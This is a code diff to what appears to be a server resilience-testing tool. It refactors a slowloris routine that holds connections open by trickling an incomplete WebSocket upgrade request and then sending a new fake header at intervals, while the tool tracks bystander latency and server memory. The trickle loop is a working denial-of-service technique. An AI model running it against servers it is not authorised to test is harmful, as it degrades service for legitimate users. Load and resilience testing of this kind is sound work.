@@ -17,6 +17,7 @@ bystander's latency and the server's RSS around it):
 
 from __future__ import annotations
 
+import contextlib
 import json
 import time
 import uuid
@@ -74,19 +75,22 @@ async def _loris(
         return
     out["connected"] += 1
     opened = time.perf_counter()
-    head = f"GET /ws?token=x HTTP/1.1\r\nHost: {ctx.target.host}\r\nUpgrade: websocket\r\n"
     async with stream:
-        try:
-            await stream.send_all(head.encode())
-            while True:
-                with trio.move_on_after(TRICKLE_EVERY):
-                    if await stream.receive_some(4096) == b"":
-                        break
-                await stream.send_all(f"X-Slow-{index}: 1\r\n".encode())
-        except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
-            pass
+        with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError, OSError):
+            await _trickle(stream, ctx.target.host, index)
     out["closed_after_s"].append(time.perf_counter() - opened)
     _tally(out["outcomes"], "closed by server")
+
+
+async def _trickle(stream: trio.SocketStream, host: str, index: int) -> None:
+    """Send a request's first lines, then a header every TRICKLE_EVERY s until EOF."""
+    head = f"GET /ws?token=x HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
+    await stream.send_all(head.encode())
+    while True:
+        with trio.move_on_after(TRICKLE_EVERY):
+            if await stream.receive_some(4096) == b"":
+                return
+        await stream.send_all(f"X-Slow-{index}: 1\r\n".encode())
 
 
 async def slowloris(ctx: AttackContext) -> dict[str, Any]:
